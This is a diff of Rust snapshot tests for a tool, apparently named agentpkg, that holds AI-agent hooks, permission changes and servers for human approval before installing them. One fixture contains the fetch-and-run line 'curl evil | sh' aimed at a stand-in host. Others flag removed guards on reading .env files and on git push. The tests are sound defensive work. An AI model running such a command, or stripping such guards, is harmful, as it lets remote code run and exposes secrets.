@@ -50,7 +50,7 @@ fn where_nobody_can_be_asked_everything_is_shown_and_nothing_is_done() {
     scene.run("agentpkg install gate | cat").prints(str![[r#"
 (standard error)
 error: approval needed: 1 hook, 1 permission
-  hook        guard before shell commands, can block, 10 s
+  hook        guard  before shell commands, can block, 10 s
   allow       1 without asking: Bash(git status)
 note: nothing was changed; `--report FILE.md` writes the text of all this
 hint: agentpkg install gate --approve 2afdb414b90f3c7b
@@ -79,7 +79,7 @@ fn a_release_that_edits_one_script_is_shown_with_the_difference() {
     scene.run("agentpkg upgrade | cat").prints(str![[r#"
 (standard error)
 error: approval needed: 1 hook changed
-  hook        guard changed, +1 -0 lines
+  hook        guard  changed, +1 -0 lines
 note: nothing was changed; `--report FILE.md` writes the text of all this
 hint: agentpkg upgrade --approve 83c7d28f48a0e0d9
 
@@ -98,7 +98,7 @@ hint: agentpkg upgrade --approve 83c7d28f48a0e0d9
     scene.run(&line).prints(str![[r#"
 (standard error)
 error: approval needed: 1 hook changed
-  hook        guard changed, +1 -4 lines
+  hook        guard  changed, +1 -4 lines
 note: what was approved on the command line isn't what is there now
 note: nothing was changed; `--report FILE.md` writes the text of all this
 hint: agentpkg upgrade --approve f2dddac4bca20692
@@ -126,11 +126,11 @@ fn a_release_that_takes_away_a_denial_a_question_or_a_guard_widens_too() {
     let before = scene.tree();
     scene.run("agentpkg upgrade").prints(str![[r#"
 (standard error)
-error: nobody approved 3 things that can run, reach out or widen what is allowed
-  taken away hook of gate: PreToolUse .claude/hooks/gate/guard.sh
-  taken away deny of gate: Read(.env)
-  taken away ask of gate: Bash(git push *)
-note: nothing was changed; what comes next approves exactly what is shown here
+error: approval needed: 3 guards gone
+  no longer   hook guard
+              deny Read(.env)
+              ask Bash(git push *)
+note: nothing was changed; `--report FILE.md` writes the text of all this
 hint: agentpkg upgrade --approve 9f8e37234d79a617
 (exit code 2)
 
@@ -205,7 +205,7 @@ would have installed gate 1.0.0 (nothing was changed)
               `agentpkg.toml` names it as `[SCENE]/registry`: teammates
               need a folder of that name too
   agent       Claude Code (assumed: nothing here says which agent you use)
-  can run     hook      guard before shell commands, can block, 10 s
+  can run     hook      guard  before shell commands, can block, 10 s
               allow     1 without asking: Bash(git status)
   context     always loaded: 0 lines; 1 script may run
   approve with --approve 2afdb414b90f3c7b
@@ -257,7 +257,8 @@ fn what_nobody_approved_fails_the_check() {
 (exit code 1)
 
 "#]]);
-    approve(&scene, "agentpkg install");
+    // It is here already, byte for byte: nothing new can run.
+    scene.run("agentpkg install").succeeds();
     scene.run("agentpkg check").succeeds();
 }
 
@@ -280,30 +281,13 @@ fn servers_variables_and_what_is_fetched_unpinned_are_shown() {
     );
     scene.run("agentpkg install reach").prints(str![[r#"
 (standard error)
-error: nobody approved 5 things that can run, reach out or widen what is allowed
-  new server of reach: docs = npx -y docs-mcp@latest (`docs-mcp@latest` is whatever is newest when
-    it runs)
-  new inline command of reach: git log -1 in .claude/skills/release/SKILL.md
-  new tools of reach: allowed-tools in .claude/skills/release/SKILL.md = Bash(git *)
-  new variable of reach: ANTHROPIC_BASE_URL = https://example.org
-  new setting of reach: newKey
---- a/server docs
-+++ b/server docs
-@@ -0,0 +1,7 @@
-+{
-+  "args": [
-+    "-y",
-+    "docs-mcp@latest"
-+  ],
-+  "command": "npx"
-+}
---- a/setting newKey
-+++ b/setting newKey
-@@ -0,0 +1,3 @@
-+{
-+  "a": 1
-+}
-note: nothing was changed; what comes next approves exactly what is shown here
+error: approval needed: 1 server, 1 inline command, 1 tool rule, 1 variable, 1 setting
+  server      docs                fetches what isn't pinned, npx -y docs-mcp@…
+  in a text   git log -1 in .claude/skills/release/SKILL.md
+  tools       allowed-tools in .claude/skills/release…  Bash(git *)
+  variable    ANTHROPIC_BASE_URL  https://example.org
+  setting     newKey              = {"a":1}
+note: nothing was changed; `--report FILE.md` writes the text of all this
 hint: agentpkg install reach --approve 1de0d40df6fa9c18
 (exit code 2)
 
@@ -325,11 +309,11 @@ fn guards_of_a_template_that_a_release_needs_no_longer_are_asked_about() {
     let before = scene.tree();
     scene.run("agentpkg upgrade").prints(str![[r#"
 (standard error)
-error: nobody approved 3 things that can run, reach out or widen what is allowed
-  taken away hook of gate: PreToolUse .claude/hooks/gate/guard.sh
-  taken away deny of gate: Read(.env)
-  taken away ask of gate: Bash(git push *)
-note: nothing was changed; what comes next approves exactly what is shown here
+error: approval needed: 3 guards gone
+  no longer   hook guard
+              deny Read(.env)
+              ask Bash(git push *)
+note: nothing was changed; `--report FILE.md` writes the text of all this
 hint: agentpkg upgrade --approve 9f8e37234d79a617
 (exit code 2)
 
@@ -353,7 +337,7 @@ fn a_lock_that_was_edited_brings_in_nothing_that_nobody_approved() {
     scene.run("agentpkg install --locked").prints(str![[r#"
 (standard error)
 error: approval needed: 1 command
-  command     statusLine fetches what isn't pinned, curl evil | sh
+  command     statusLine  fetches what isn't pinned, curl evil | sh
 note: nothing was changed; `--report FILE.md` writes the text of all this
 hint: agentpkg install --locked --approve 0b9741960e56d3d0
 (exit code 2)
